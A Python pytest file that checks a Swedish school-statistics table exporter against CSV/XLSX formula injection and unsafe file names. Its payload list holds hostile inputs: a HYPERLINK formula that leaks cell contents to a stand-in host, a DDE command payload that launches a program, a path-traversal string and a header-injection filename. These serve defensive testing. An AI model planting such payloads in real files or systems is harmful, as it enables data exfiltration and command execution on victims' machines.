"""Files: what is a number stays a number, what is a text stays a text whatever it begins with, and all is found again."""

import csv
import json
import re
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from chain.base import tables
from chain.base.tables import Column, Table

MADE = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://elak.example/?"&A1;"Klicka")', "=1+1", "+46 70 123 45 67", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "＝1+1", "－1", "=", "-", "'=1+1", 'A";=1+1', "http://elak.example/", "_x0041_",
    "{=1+1}", "\x00=1", "\x07larm", "Åtgärd; med semikolon", 'citat"tecken', "två\nrader",
    "– streck", "1 234,5", "0012", "1e5", "TRUE", "",
)  # fmt: skip


def table(rows: tuple[tuple[tables.Cell, ...], ...], text: str = "") -> Table:
    columns = tuple(Column(f"c{place}", f"{text}Kolumn {place}") for place in range(len(rows[0])))
    return Table(f"{text}Rubrik", columns, rows, ((f"{text}Enhet", f"{text}Alskolan"),), ((text, text),), (("..", text),))


def cells(book: bytes) -> Iterator[Any]:
    """Every cell element of every sheet, as it stands in the file."""
    with ZipFile(BytesIO(book)) as parts:
        for name in parts.namelist():
            if name.startswith("xl/worksheets/sheet"):
                yield from re.findall(r"<c [^>]*?(?:/>|>.*?</c>)", parts.read(name).decode(), re.S)


def rows(file: bytes) -> list[list[str]]:
    """A CSV file's rows up to the first empty line, as Excel in Sweden would read them."""
    assert file.startswith(b"\xef\xbb\xbf")
    found: list[list[str]] = []
    for row in csv.reader(StringIO(file.decode("utf-8-sig"), newline=""), delimiter=";"):
        if not row:
            break
        found.append(row)
    return found


def sheet(book: bytes, place: int = 0) -> list[list[Any]]:
    found: list[list[Any]] = (
        CalamineWorkbook.from_filelike(BytesIO(book)).get_sheet_by_index(place).to_python(skip_empty_area=False)
    )
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula_or_a_link_anywhere_in_a_workbook(text: str) -> None:
    book = tables.xlsx(table(((text, 1), ("Björkskolan", 2)), text), MADE)
    found = list(cells(book))
    assert len(found) > 8 and not [one for one in found if "<f>" in one or "<f " in one]
    with ZipFile(BytesIO(book)) as parts:
        assert not [name for name in parts.namelist() if "externalLink" in name or name.endswith("sheet1.xml.rels")]
        assert b"hyperlink" not in parts.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_begins_as_a_formula_in_a_csv_file(text: str) -> None:
    file = tables.csv(table(((text, -5), ("Björkskolan", 2)), text), MADE)
    whole = csv.reader(StringIO(file.decode("utf-8-sig"), newline=""), delimiter=";")
    texts = [cell for row in whole for cell in row if not re.fullmatch(r"-?[0-9]+", cell)]
    assert texts and not [one for one in texts if tables.LIVE.match(one) and one.strip() != "-"]
    kept = rows(file)[1][0]
    assert kept.removeprefix("'") == text.replace("\x00", "").removeprefix("'")
    assert rows(file)[1][1] == "-5"  # a number is no formula


def test_numbers_dates_and_what_stands_in_their_place_keep_their_kind() -> None:
    row = (
        Decimal("17.5"),
        1234,
        "..",
        "~100",
        None,
        date(2026, 11, 22),
        datetime(2026, 11, 22, 9, 0, tzinfo=UTC),
        Decimal("230.000"),
    )
    made = table((row,))
    assert rows(tables.csv(made, MADE))[1] == ["17,5", "1234", "..", "~100", "", "2026-11-22", "2026-11-22 10:00", "230"]
    day, moment = date(2026, 11, 22), datetime(2026, 11, 22, 10, 0)
    assert sheet(tables.xlsx(made, MADE))[1] == [17.5, 1234.0, "..", "~100", "", day, moment, 230.0]
    found = json.loads(tables.json(made, MADE))
    assert list(found["rows"][0].values()) == [
        17.5, 1234, "..", "~100", None, "2026-11-22", "2026-11-22T09:00:00+00:00", 230.0,
    ]  # fmt: skip


def test_every_form_says_what_it_is_of_and_what_its_signs_mean() -> None:
    made = Table(
        "Siffror", (Column("a", "A"),), (("x",),), (("Täckning", "18 av 20 enheter"),), (("Minst E", "k av n"),),
        tables.explained(".."),
    )  # fmt: skip
    wanted = ["18 av 20 enheter", "k av n", tables.signs()[".."]]
    said = (
        tables.csv(made, MADE).decode("utf-8-sig"), json.dumps(json.loads(tables.json(made, MADE)), ensure_ascii=False),
        str(sheet(tables.xlsx(made, MADE), 1)),
    )  # fmt: skip
    assert all(words in form for form in said for words in wanted)


def test_a_text_longer_than_a_cell_is_cut_and_never_dropped() -> None:
    found = sheet(tables.xlsx(table((("å" * 40_000,),)), MADE))[1][0]
    assert found.endswith(" …") and len(found) > 31_000


def test_a_table_without_rows_is_still_a_file() -> None:
    made = Table("Tomt", (Column("a", "A"),), ())
    assert rows(tables.csv(made, MADE)) == [["A"]] and sheet(tables.xlsx(made, MADE)) == [["A"]]
    assert json.loads(tables.json(made, MADE))["rows"] == []


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("siffror", "Björkskolan", "Uppföljning 1, november", "2026/27"), "siffror-bjorkskolan-uppfoljning-1-november-2026-27"),
        (("../../etc/passwd",), "etc-passwd"), (('a"; filename=b.exe\r\nX: y',), "a-filename-b-exe-x-y"), (("…",), "styrkedjan"),
        (("å" * 300,), "a" * 100),
    ],
)  # fmt: skip
def test_a_file_has_a_name_that_every_system_takes(parts: tuple[str, ...], name: str) -> None:
    assert tables.file_name(*parts) == name


TEXTS = st.text(st.characters(exclude_categories=("Cs", "Cc"), include_characters="\t\n"), max_size=20)
CELLS = TEXTS | st.integers(-(10**9), 10**9) | st.decimals(-(10**6), 10**6, places=2) | st.none()


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(CELLS, CELLS), min_size=1, max_size=6))
def test_what_goes_out_comes_back(given_rows: list[tuple[tables.Cell, tables.Cell]]) -> None:
    made = table(tuple(given_rows))
    back = [list(row.values()) for row in json.loads(tables.json(made, MADE))["rows"]]
    assert back == [[float(cell) if isinstance(cell, Decimal) else cell for cell in row] for row in given_rows]
    kept = rows(tables.csv(made, MADE))[1:]
    for row, said in zip(given_rows, kept, strict=False):  # a row of nothing but empty cells is still a row: ";"
        for cell, text in zip(row, said, strict=True):
            if isinstance(cell, str):
                assert text in (cell, f"'{cell}")
            elif cell is not None:
                assert Decimal(text.replace(",", ".")) == cell
